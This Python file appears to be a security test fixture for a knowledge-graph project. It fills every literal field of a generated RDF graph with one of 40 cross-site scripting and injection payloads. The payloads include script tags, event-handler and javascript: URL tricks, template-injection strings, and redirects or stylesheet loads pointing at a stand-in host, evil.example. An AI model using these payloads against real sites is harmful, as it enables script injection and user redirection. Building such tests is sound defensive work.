"""A graph whose every literal is an attack, one district for each payload."""

from rdflib import RDF, RDFS, XSD, Graph, Literal, Namespace, URIRef
from rdflib.term import Node

from kg.vocabulary import BASE, DCTERMS, ITSRDF, KG, NIF, ORG, PROV, SKOS

RUN = "globalThis.__xss=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}//-->",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>click</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button autofocus>x",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"');{RUN};//",
    f'");{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"]]><script>{RUN}</script>",
    f"\u2028{RUN}\u2029",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<x onclick={RUN} style=position:fixed;inset:0>x",
    f"\u202e<script>{RUN}</script>\u202c",
    f"<!--slot:app--><!--slot:graph-->{RUN}",
    "__proto__",
    f"{{s}}{{o}}{{count}} constructor toString <b>{RUN}</b>",
)
assert len(PAYLOADS) == 40
KGN, NIFN, DCT, SKO, ORGN, PRV = (Namespace(iri) for iri in (KG, NIF, DCTERMS, SKOS, ORG, PROV))


def hostile() -> Graph:
    """Return the graph: every literal field of every kind of node, for each of the 40 payloads."""
    graph = Graph()
    for number, payload in enumerate(PAYLOADS):
        District(graph, number, payload).write()
    return graph


class District:
    """One district with one of everything, all of it named by the payload."""

    def __init__(self, graph: Graph, number: int, payload: str) -> None:
        self.graph, self.number, self.payload = graph, number, Literal(payload)

    def iri(self, kind: str) -> URIRef:
        return URIRef(f"{BASE}{kind}-{self.number}")

    def say(self, subject: Node, *pairs: tuple[Node, Node]) -> None:
        for predicate, value in pairs:
            self.graph.add((subject, predicate, value))

    def entity(self, kind: str, *pairs: tuple[Node, Node]) -> URIRef:
        node = self.iri(kind)
        names = ((RDFS.label, self.payload), (SKO.prefLabel, self.payload), (SKO.altLabel, self.payload))
        self.say(node, (RDF.type, KGN[kind]), *names, *pairs)
        return node

    def claim(self, s: URIRef, p: URIRef, o: URIRef, sentence: URIRef, article: URIRef) -> None:
        self.say(s, (p, o))
        node = URIRef(f"{BASE}claim-{self.number}-{len(self.graph)}")
        self.say(node, (RDF.type, KGN.Claim), (RDF.subject, s), (RDF.predicate, p), (RDF.object, o))
        self.say(node, (KGN.article, article), (PRV.wasDerivedFrom, sentence), (KGN.confidence, self.payload))

    def write(self) -> None:
        payload = self.payload
        article = self.iri("Article")
        self.say(article, (RDF.type, KGN.Article), (DCT.identifier, payload), (DCT.title, payload))
        self.say(article, (DCT.issued, payload), (DCT.source, payload), (NIFN.isString, payload))
        self.say(article, (KGN.publisherName, payload), (KGN.authorName, payload))
        sentence = URIRef(f"{article}#char=0,{len(payload)}")
        self.say(
            sentence,
            (RDF.type, KGN.Mention),
            (NIFN.beginIndex, Literal(0)),
            (NIFN.endIndex, Literal(len(payload))),
        )
        self.say(
            sentence, (NIFN.anchorOf, payload), (NIFN.sentence, sentence), (NIFN.referenceContext, article)
        )
        area = self.entity(
            "Area", (RDF.type, KGN.District), (KGN.adminCode, payload), (KGN.mentionedIn, article)
        )
        self.say(article, (KGN.about, area))
        self.say(sentence, (URIRef(ITSRDF + "taIdentRef"), area))
        theme = URIRef(f"{KG}theme{self.number}")
        self.say(theme, (RDFS.label, payload), (SKO.prefLabel, payload))
        initiative = self.entity(
            "Initiative", (KGN.targets, payload), (KGN.benefits, payload), (KGN.status, payload)
        )
        self.claim(area, KGN.runs, initiative, sentence, article)
        self.claim(initiative, KGN.theme, theme, sentence, article)
        self.figures(area, initiative, sentence, article)
        self.others(area, sentence, article)

    def figures(self, area: URIRef, initiative: URIRef, sentence: URIRef, article: URIRef) -> None:
        indicator = self.iri("Indicator") if self.number % 4 else URIRef(f"{BASE}Indicator-shared")
        self.say(indicator, (RDF.type, KGN.Indicator), (RDFS.label, self.payload))
        fields = (
            "unit measure action object period periodStart periodEnd qualifier direction modality statistic"
        )
        for name in ("Metric", "MetricBefore"):
            metric = self.iri(name)
            self.say(
                metric, (RDF.type, KGN.Metric), (KGN.indicator, indicator), (PRV.wasDerivedFrom, sentence)
            )
            self.say(metric, *((KGN[field], self.payload) for field in fields.split()))
            self.say(metric, (KGN.value, Literal(str(self.number + 1), datatype=XSD.decimal)))
            self.claim(initiative, KGN.achieves, metric, sentence, article)
            self.claim(area, KGN.reports, metric, sentence, article)
        wild = self.iri("MetricWild")
        self.say(
            wild,
            (RDF.type, KGN.Metric),
            *((KGN[f], self.payload) for f in ("value", "minValue", "maxValue", "unit")),
        )
        self.claim(initiative, KGN.achieves, wild, sentence, article)
        self.say(self.iri("Metric"), (KGN.baseline, self.iri("MetricBefore")))

    def others(self, area: URIRef, sentence: URIRef, article: URIRef) -> None:
        policy = self.entity("Policy", (KGN.documentNumber, self.payload))
        award = self.entity("Award", (DCT.issued, self.payload))
        organization, person = self.entity("Organization"), self.entity("Person")
        post = self.iri("Post")
        self.say(post, (RDF.type, ORGN.Post), (RDFS.label, self.payload), (ORGN.postIn, organization))
        self.claim(area, KGN.issued, policy, sentence, article)
        self.claim(area, KGN.received, award, sentence, article)
        self.claim(organization, KGN.locatedIn, area, sentence, article)
        self.claim(person, ORGN.holds, post, sentence, article)
        event = self.iri("ChangeEvent")
        self.say(event, (RDF.type, KGN.ChangeEvent), (KGN.originalArea, area), (DCT.date, self.payload))
